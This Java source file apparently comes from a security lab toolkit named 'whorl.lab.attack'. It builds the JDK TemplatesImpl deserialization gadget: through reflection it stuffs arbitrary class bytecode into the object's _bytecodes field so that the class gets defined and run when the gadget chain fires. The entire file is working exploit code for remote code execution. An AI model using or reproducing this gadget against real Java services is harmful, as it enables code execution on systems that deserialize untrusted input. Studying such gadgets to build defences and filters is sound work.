package whorl.lab.attack;

import com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl;
import com.sun.org.apache.xalan.internal.xsltc.trax.TransformerFactoryImpl;

/** The JDK's compiled style sheet, which defines the class that it holds. */
public final class Templates {
  private Templates() {}

  public static Object of(Class<?> translet) throws Exception {
    TemplatesImpl templates = new TemplatesImpl();
    Attacker.set(templates, "_bytecodes", new byte[][] {Attacker.classBytes(translet)});
    Attacker.set(templates, "_name", "x");
    Attacker.set(templates, "_tfactory", new TransformerFactoryImpl());
    return templates;
  }
}
